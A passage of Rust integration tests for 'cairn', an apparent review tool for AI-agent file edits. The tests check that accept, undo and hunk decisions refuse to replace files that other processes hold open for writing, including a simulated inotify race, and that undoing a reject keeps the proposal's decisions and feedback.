    assert_ne!(r.code, 0, "{r:?}");
    assert!(r.stderr.contains("b.txt"), "names the path: {}", r.stderr);
    assert_eq!(f.read_str("a.txt").unwrap(), "a\nA\n", "nothing restored");
    assert_eq!(f.read_str("b.txt").unwrap(), "b\nB\n");
}

/// A file another process holds open for writing (a log, a database, `exec 3<>f`) is not
/// replaced under it: its later writes would go to the replaced, unlinked file and be lost.
/// Accept refuses, naming the process, and changes nothing; `--force` replaces it anyway.
#[test]
fn a_file_open_for_writing_elsewhere_is_not_replaced_under_it() {
    use std::io::BufRead;
    let f = Fixture::with_files(&[("held.txt", "one\n"), ("other.txt", "a\n")]);
    let s = f.run_ok("write_file('held.txt', 'two\\n')\nwrite_file('other.txt', 'b\\n')\n");
    let mut holder = std::process::Command::new("sh")
        .args(["-c", "exec 3<>held.txt; echo ready; exec sleep 600"])
        .current_dir(&f.root)
        .stdout(std::process::Stdio::piped())
        .spawn()
        .unwrap();
    let mut line = String::new();
    std::io::BufReader::new(holder.stdout.take().unwrap()).read_line(&mut line).unwrap();
    let r = f.cairn(&["accept", &s.id]);
    let named = format!("held.txt is open for writing by pid {} (sleep)", holder.id());
    assert!(r.code != 0 && r.stderr.contains(&named), "{r:?}");
    assert_eq!((f.read_str("held.txt").unwrap(), f.read_str("other.txt").unwrap()), ("one\n".to_string(), "a\n".to_string()), "nothing changed");
    assert_eq!(f.cairn(&["status", &s.id, "--json"]).ok().json()["state"], "reviewing");
    f.cairn(&["accept", &s.id, "--force"]).ok();
    assert_eq!((f.read_str("held.txt").unwrap(), f.read_str("other.txt").unwrap()), ("two\n".to_string(), "b\n".to_string()));
    // Undo would replace it under its writer the same way (the writer holds the old file now:
    // a new holder of the accepted one).
    let mut holder2 = std::process::Command::new("sh").args(["-c", "exec 3<>held.txt; echo ready; exec sleep 600"]).current_dir(&f.root).stdout(std::process::Stdio::piped()).spawn().unwrap();
    std::io::BufReader::new(holder2.stdout.take().unwrap()).read_line(&mut line).unwrap();
    let r = f.cairn(&["undo", &s.id]);
    assert!(r.code != 0 && r.stderr.contains("undo refused, nothing changed: held.txt is open for writing"), "{r:?}");
    assert_eq!(f.read_str("other.txt").unwrap(), "b\n", "nothing restored");
    for mut h in [holder, holder2] {
        let _ = h.kill();
        let _ = h.wait();
    }
    f.cairn(&["undo", &s.id]).ok();
    assert_eq!((f.read_str("held.txt").unwrap(), f.read_str("other.txt").unwrap()), ("one\n".to_string(), "a\n".to_string()));
    // And a hunk accept.
    let mut holder3 = std::process::Command::new("sh").args(["-c", "exec 3<>held.txt; echo ready; exec sleep 600"]).current_dir(&f.root).stdout(std::process::Stdio::piped()).spawn().unwrap();
    std::io::BufReader::new(holder3.stdout.take().unwrap()).read_line(&mut line).unwrap();
    let r = f.cairn(&["accept-hunk", &s.id, "held.txt", "1"]);
    assert!(r.code != 0 && r.stderr.contains("hunk accept refused, nothing changed: held.txt is open for writing"), "{r:?}");
    assert_eq!(f.read_str("held.txt").unwrap(), "one\n");
    let _ = holder3.kill();
    let _ = holder3.wait();
}

/// The refusal names who writes, not who reads: a process with the file mapped for writing
/// (its descriptor closed) is named; one that only reads it is not.
#[test]
fn a_refused_accept_names_the_writer_not_the_readers() {
    use std::io::BufRead;
    let f = Fixture::with_files(&[("held.txt", "one\n")]);
    let s = f.run_ok("write_file('held.txt', 'two\\n')\n");
    let spawn = |script: &str| {
        let mut c = std::process::Command::new("python3").args(["-c", script]).current_dir(&f.root).stdout(std::process::Stdio::piped()).spawn().unwrap();
        std::io::BufReader::new(c.stdout.take().unwrap()).read_line(&mut String::new()).unwrap();
        c
    };
    let reader = spawn("import time\nf = open('held.txt')\nprint('ready', flush=True)\ntime.sleep(600)\n");
    let writer = spawn("import mmap, os, time\nfd = os.open('held.txt', os.O_RDWR)\nm = mmap.mmap(fd, 4)\nos.close(fd)\nprint('ready', flush=True)\ntime.sleep(600)\n");
    let r = f.cairn(&["accept", &s.id]);
    assert!(r.code != 0 && r.stderr.contains(&format!("held.txt is open for writing by pid {} (python3)", writer.id())), "{r:?}");
    assert!(!r.stderr.contains(&format!("pid {}", reader.id())), "a reader named: {r:?}");
    assert_eq!(f.read_str("held.txt").unwrap(), "one\n");
    for mut c in [reader, writer] {
        let _ = c.kill();
        let _ = c.wait();
    }
    f.cairn(&["accept", &s.id]).ok();
    assert_eq!(f.read_str("held.txt").unwrap(), "two\n");
}

/// A reject is taken back by `cairn undo`: the proposal is reviewing again with the same diff,
/// its hunk decisions and its feedback; a reject of what was never under review is not.
#[test]
fn a_rejected_proposal_undone_is_reviewing_again_with_its_decisions() {
    let text: String = (1..=30).map(|i| format!("l{i}\n")).collect();
    let f = Fixture::with_files(&[("a.txt", &text)]);
    let id = f.run_ok("t = read_file('a.txt')\nfor n in (3, 15, 27):\n    t = t.replace(f'l{n}\\n', f'N{n}\\n')\nwrite_file('a.txt', t)\n").id;
    f.cairn(&["reject-hunk", &id, "a.txt", "1", "--reason", "keep line 3"]).ok();
    let diff = f.cairn(&["diff", &id]).ok().stdout;
    assert!(diff.contains("+N15") && !diff.contains("+N3\n"), "{diff}");
    f.cairn(&["reject", &id, "--reason", "too broad"]).ok();
    assert_eq!(f.status(&id).state.as_str(), "rejected");
    let out = f.cairn(&["undo", &id]).ok().stdout;
    assert!(out.contains("reviewing again"), "{out}");
    assert_eq!(f.status(&id).state.as_str(), "reviewing");
    assert_eq!(f.cairn(&["diff", &id]).ok().stdout, diff, "the same proposal, its hunk decision kept");
    let log = f.cairn(&["log", &id]).ok().stdout;
    assert!(log.contains("keep line 3") && log.contains("too broad"), "its feedback kept: {log}");
    let hunks = f.cairn(&["hunks", &id]).ok().stdout;
    assert_eq!(hunks.matches(". line ").count(), 2, "{hunks}");
    // Reviewed again, it lands.
    f.cairn(&["accept", &id]).ok();
    assert_eq!(f.read_str("a.txt").unwrap(), text.replace("l15\n", "N15\n").replace("l27\n", "N27\n"));

    // A queued agent cancelled has no proposal to take back: refused, it stays rejected.
    let q = f.cairn(&["queue", "--provider", "inline", "x = 1"]).ok().stdout.trim().to_string();
    f.cairn(&["reject", &q]).ok();
    let refused = f.cairn(&["undo", &q]);
    assert!(refused.code != 0 && refused.stderr.contains("not a proposal under review"), "{}", refused.stderr);
    assert_eq!(f.status(&q).state.as_str(), "rejected");
    // Nor does a word that is no agent's id undo or reject anything.
    let refused = f.cairn(&["reject", "4e1x"]);
    assert!(refused.code != 0 && refused.stderr.contains("4e1x"), "{}", refused.stderr);
}

/// The attacker's way: a process watches the project with inotify and opens the file for
/// writing as soon as accept opens it for its last look, then writes. The renames are slowed
/// (strace delays each `renameat2`) so its open always comes before the file is replaced. What
/// it writes must stay in the file: the accept sees the open waiting on its lease, puts the
/// old file back for it and refuses; once it is done, the accept lands.
#[test]
fn a_writer_that_opens_the_file_during_the_accept_loses_nothing() {
    use std::io::BufRead;
    let base: String = (1..=10).map(|i| format!("l{i}\n")).collect();
    let f = Fixture::with_files(&[("w.txt", &base)]);
    let id = f.run_ok("t = read_file('w.txt')\nwrite_file('w.txt', t.replace('l1\\n', 'agent\\n', 1))\n").id;
    // At the second open of w.txt once `go` exists (the review's read, then the last look),
    // it opens w.txt for appending, says so, writes a line after a while, and exits.
    const WRITER: &str = r#"
import ctypes, os, select, struct, sys, time
libc = ctypes.CDLL(None, use_errno=True)
fd = libc.inotify_init1(os.O_NONBLOCK)
libc.inotify_add_watch(fd, b".", 0x20)  # IN_OPEN: the directory, since accept puts another file there
print("ready", flush=True)
go, seen = sys.argv[1], 0
while seen < 2:
    select.select([fd], [], [])
    buf = os.read(fd, 65536)
    at = 0
    while at < len(buf):
        size = struct.unpack_from("iIII", buf, at)[3]
        if buf[at + 16:at + 16 + size].rstrip(b"\0") == b"w.txt" and os.path.exists(go):
            seen += 1
        at += 16 + size
time.sleep(0.1)  # past the lease taken after that open (the renames wait 400 ms)
w = os.open("w.txt", os.O_WRONLY | os.O_APPEND)
print("opened", flush=True)
time.sleep(0.5)
os.write(w, b"written during the accept\n")
os.close(w)
"#;
    let go = f.root.join("../go");
    let mut writer = Killed(std::process::Command::new("python3").args(["-c", WRITER]).arg(&go).current_dir(&f.root).stdout(std::process::Stdio::piped()).spawn().unwrap());
    let mut out = std::io::BufReader::new(writer.0.stdout.take().unwrap());
    out.read_line(&mut String::new()).unwrap();
    std::fs::write(&go, "").unwrap();
    let slowed = std::process::Command::new("strace")
        .args(["-f", "-qq", "-o", "/dev/null", "-e", "trace=renameat2", "-e", "inject=renameat2:delay_enter=400000"])
        .arg(exe())
        .args(["--project-root", f.root.to_str().unwrap(), "--cairn-home", f.home.to_str().unwrap(), "accept", &id])
        .output()
        .unwrap();
    let stderr = String::from_utf8_lossy(&slowed.stderr);
    let mut said = String::new();
    out.read_line(&mut said).unwrap();
    assert_eq!(said.trim(), "opened", "the writer opened the file during the accept");
    let _ = writer.0.wait();
    assert!(!slowed.status.success() && stderr.contains("opened w.txt for writing during the accept"), "{stderr}");
    assert_eq!(f.read_str("w.txt").unwrap(), format!("{base}written during the accept\n"), "its write is in the file, nothing of the agent's");
    assert_eq!(f.status(&id).state.as_str(), "reviewing");
    // Once it is done, the accept lands (on top of what it wrote).
    f.cairn(&["accept", &id]).ok();
    assert_eq!(f.read_str("w.txt").unwrap(), format!("{}written during the accept\n", base.replacen("l1\n", "agent\n", 1)));
}

/// A child killed when dropped (a failed assertion must not leave it running).
struct Killed(std::process::Child);

impl Drop for Killed {
    fn drop(&mut self) {
        let _ = self.0.kill();
        let _ = self.0.wait();
    }
}
